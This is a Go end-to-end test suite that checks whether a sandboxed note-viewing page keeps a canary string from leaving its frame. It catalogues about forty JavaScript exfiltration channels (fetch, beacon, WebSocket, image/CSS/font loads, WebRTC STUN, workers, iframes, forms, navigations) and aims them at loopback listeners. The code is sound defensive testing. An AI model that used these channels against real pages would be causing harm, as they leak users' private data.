package e2e

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

// canary stands for the text of a note: it must turn up nowhere.
const canary = "canary-a-note-about-chest-pain"

// ears listen for whatever a page manages to send: a TCP and a UDP socket on loopback.
type ears struct {
	tcp net.Listener
	udp net.PacketConn

	mu    sync.Mutex
	heard [][]byte // what a connection or packet began with; a connection without data is an empty entry
}

func listen(t testing.TB) *ears {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e := &ears{tcp: tcp, udp: udp}
	t.Cleanup(func() { tcp.Close(); udp.Close() })
	go e.hearTCP()
	go e.hearUDP()
	return e
}

func (e *ears) hearTCP() {
	for {
		conn, err := e.tcp.Accept()
		if err != nil {
			return
		}
		go func() {
			defer conn.Close()
			buffer := make([]byte, 64<<10)
			conn.SetReadDeadline(time.Now().Add(5 * time.Second))
			heard := e.note(nil) // a connection that says nothing has said something too
			n, _ := conn.Read(buffer)
			e.tell(heard, buffer[:n])
			fmt.Fprint(conn, "HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
		}()
	}
}

func (e *ears) hearUDP() {
	buffer := make([]byte, 64<<10)
	for {
		n, _, err := e.udp.ReadFrom(buffer)
		if err != nil {
			return
		}
		e.note(append([]byte("UDP "), buffer[:n]...))
	}
}

// note adds an entry and gives its place.
func (e *ears) note(b []byte) int {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.heard = append(e.heard, bytes.Clone(b))
	return len(e.heard) - 1
}

func (e *ears) tell(at int, b []byte) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.heard[at] = bytes.Clone(b)
}

// all is what has been heard so far.
func (e *ears) all() [][]byte {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([][]byte(nil), e.heard...)
}

// way is JavaScript that tries to get the canary out; url names the ear and the way,
// udp the other ear. moves says that the document is gone if it works.
type way struct {
	name, code string
	moves      bool
}

var ways = []way{
	{name: "fetch", code: `fetch(url, {mode: 'no-cors', method: 'POST', body: url})`},
	{name: "fetch-keepalive", code: `fetch(url, {mode: 'no-cors', keepalive: true})`},
	{name: "xhr", code: `const r = new XMLHttpRequest(); r.open('POST', url); r.send(url)`},
	{name: "websocket", code: `new WebSocket(url.replace('http', 'ws'))`},
	{name: "eventsource", code: `new EventSource(url)`},
	{name: "beacon", code: `navigator.sendBeacon(url, url)`},
	{name: "image", code: `new Image().src = url`},
	{name: "image-in-page", code: `document.body.append(Object.assign(new Image(), {src: url}))`},
	{name: "script", code: `document.head.append(Object.assign(document.createElement('script'), {src: url}))`},
	{name: "module-import", code: `import(url)`},
	{name: "stylesheet", code: `document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: url}))`},
	{name: "css-background", code: `document.body.style.backgroundImage = 'url(' + url + ')'`},
	{name: "css-import", code: `document.head.append(Object.assign(document.createElement('style'), {textContent: '@import "' + url + '";'}))`},
	{name: "font", code: `new FontFace('x', 'url(' + url + ')').load()`},
	{name: "video", code: `document.body.append(Object.assign(document.createElement('video'), {src: url, preload: 'auto'}))`},
	{name: "object", code: `document.body.append(Object.assign(document.createElement('object'), {data: url}))`},
	{name: "embed", code: `document.body.append(Object.assign(document.createElement('embed'), {src: url}))`},
	{name: "iframe", code: `document.body.append(Object.assign(document.createElement('iframe'), {src: url}))`},
	{name: "prefetch", code: `document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: url}))`},
	{name: "preload", code: `document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: url}))`},
	{name: "svg-image", code: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + url + '"/></svg>')`},
	{name: "worker-fetch", code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '", {mode: "no-cors"})'])))`},
	{name: "worker-import", code: `new Worker(URL.createObjectURL(new Blob(['importScripts("' + url + '")'])))`},
	{name: "worker-websocket", code: `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + url.replace('http', 'ws') + '")'])))`},
	{name: "webrtc", code: `call(globalThis)`},
	{name: "webrtc-in-a-child", code: `const f = document.createElement('iframe'); document.body.append(f); call(f.contentWindow)`},
	{name: "webrtc-in-srcdoc", code: `document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<script>' + call + ';call(globalThis)<\/script>'}))`},
	{name: "fetch-in-srcdoc", code: `document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<img src="' + url + '"><script>fetch("' + url + '", {mode: "no-cors"})<\/script>'}))`},
	{name: "child-location", code: `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = url`},
	{name: "child-refresh", code: `document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<meta http-equiv=refresh content="0;url=' + url + '">'}))`},
	{name: "window-open", code: `window.open(url)`},
	{name: "anchor-blank", code: `const a = Object.assign(document.createElement('a'), {href: url, target: '_blank'}); document.body.append(a); a.click()`},
	{name: "anchor-ping", code: `const a = Object.assign(document.createElement('a'), {href: '#x', ping: url}); document.body.append(a); a.click()`, moves: true},
	{name: "form-in-new-window", code: `const f = Object.assign(document.createElement('form'), {action: url, method: 'post', target: '_blank'}); document.body.append(f); f.submit()`},
	{name: "form", code: `const f = Object.assign(document.createElement('form'), {action: url, method: 'get'}); document.body.append(f); f.submit()`, moves: true},
	{name: "location", code: `location.href = url`, moves: true},
	{name: "top-location", code: `top.location.href = url`, moves: true},
	{name: "anchor", code: `const a = Object.assign(document.createElement('a'), {href: url}); document.body.append(a); a.click()`, moves: true},
	{name: "anchor-top", code: `const a = Object.assign(document.createElement('a'), {href: url, target: '_top'}); document.body.append(a); a.click()`, moves: true},
	{name: "meta-refresh", code: `document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=' + url}))`, moves: true},
}

// stun makes a WebRTC connection look for its own address at the UDP ear.
const stun = `function call(w) {
	const c = new w.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]})
	c.createDataChannel('x')
	c.createOffer().then((o) => c.setLocalDescription(o))
}`

// script is the way, aimed at the ears; it swallows errors, which are what should happen.
func (w way) script(e *ears) string {
	return fmt.Sprintf(`(async () => { try { const url = %s; %s; %s } catch (e) {} })(); 0`,
		quoted(w.url(e)), strings.Replace(stun, "UDP", e.udp.LocalAddr().String(), 1), w.code)
}

func (w way) url(e *ears) string {
	return fmt.Sprintf("http://%s/%s/%s", e.tcp.Addr(), w.name, canary)
}

// mark is what the ears hear when the way works.
func (w way) mark() string {
	if strings.HasPrefix(w.name, "webrtc") {
		return "UDP "
	}
	return "/" + w.name + "/" + canary
}

// grace is how long an attempt may take to reach the ears.
const grace = time.Second

// What the ears hear of an ordinary page: without this, their silence would mean nothing.
func TestEarsHearAnOrdinaryPage(t *testing.T) {
	ordinary := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html><title>ordinary</title><body><p>An ordinary page.")
	}))
	defer ordinary.Close()
	for _, w := range ways {
		e, d := listen(t), newDocument(t)
		d.open(ordinary.URL)
		d.wait(`document.readyState === 'complete'`)
		d.must(w.script(e), nil)
		heard := false
		for deadline := time.Now().Add(5 * time.Second); !heard && time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
			for _, b := range e.all() {
				heard = heard || bytes.Contains(b, []byte(w.mark()))
			}
		}
		if !heard {
			t.Errorf("%s: the ears heard nothing of an ordinary page", w.name)
		}
		d.stop()
	}
}

func TestNothingLeavesTheFrame(t *testing.T) {
	s, e := newServer(t), listen(t)
	tab := openReady(t, s)
	before := tab.settled(s)
	tab.write(canary)
	for _, w := range ways {
		if !w.moves {
			tab.frame.must(w.script(e), nil)
		}
	}
	time.Sleep(grace)
	if len(tab.frame.troubles) == 0 {
		t.Error("no policy was violated: the attempts did not run, or this test is deaf")
	}
	tab.silent(s, e, before, "without moving")
	for _, w := range ways {
		if !w.moves {
			continue
		}
		e, tab := listen(t), openReady(t, s)
		before := tab.settled(s)
		tab.write(canary)
		// The frame may be gone before it answers.
		_ = tab.frame.eval(w.script(e), nil)
		time.Sleep(grace / 2)
		tab.silent(s, e, before, w.name)
		tab.outer.stop()
	}
}

// silent fails the test when an ear or the page's own server heard anything. A bare
// connection counts: a host name can carry text. Content-Security-Policy alone lets
// Chromium connect ahead of a navigation it then refuses; Connection-Allowlist does not.
func (tab *tab) silent(s *server, e *ears, before int, what string) {
	tab.outer.t.Helper()
	for _, b := range e.all() {
		tab.outer.t.Errorf("%s: a connection reached the ears with %q", what, brief(string(b)))
	}
	for _, r := range s.since(before) {
		tab.outer.t.Errorf("%s: the page's server heard %q", what, r)
	}
}

// The same, aimed at the page's own server, which the outer document may ask.
func TestNothingReachesTheOwnServer(t *testing.T) {
	s, e := newServer(t), listen(t)
	tab := openReady(t, s)
	before := tab.settled(s)
	for _, w := range ways {
		if !w.moves {
			own := strings.ReplaceAll(w.script(e), e.tcp.Addr().String(), s.address)
			tab.frame.must(own, nil)
		}
	}
	time.Sleep(grace)
	tab.silent(s, e, before, "own server")
}

// The proof that the page offers its readers.
func TestPageProvesItself(t *testing.T) {
	s := newServer(t)
	tab := openReady(t, s)
	before := tab.settled(s)
	tab.frame.must(shadow+`.querySelector('#proof-open').click()`, nil)
	tab.frame.wait(shadow + `.querySelector('#after-ready')?.dataset.requests === '0'`)
	tab.frame.must(shadow+`.querySelector('#leak').click()`, nil)
	tab.frame.wait(shadow + `.querySelectorAll('#attempts > li').length > 0`)
	var through []string
	tab.frame.must(`[...`+shadow+`.querySelectorAll('#attempts > li')].filter(li => li.dataset.refused !== 'true').map(li => li.innerText)`, &through)
	if len(through) > 0 {
		t.Errorf("the page says that these got out: %v", through)
	}
	if late := s.since(before); len(late) > 0 {
		t.Errorf("the server heard %v", late)
	}
}

// The tests that want silence of the console are not deaf either.
func TestTroubleIsHeard(t *testing.T) {
	tab := openReady(t, newServer(t))
	for name, d := range map[string]*document{"outer": tab.outer, "inner": tab.frame} {
		for _, code := range []string{
			`console.error('x'); 0`,
			`setTimeout(() => { throw new Error('x') }); 0`,
			`new Image().src = 'http://192.0.2.1/x.png'; 0`,
		} {
			before := d.count()
			d.must(code, nil)
			for deadline := time.Now().Add(5 * time.Second); d.count() == before; time.Sleep(5 * time.Millisecond) {
				if time.Now().After(deadline) {
					t.Fatalf("%s: nobody heard of %s", name, code)
				}
			}
		}
	}
}

func (d *document) count() int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return len(d.troubles)
}
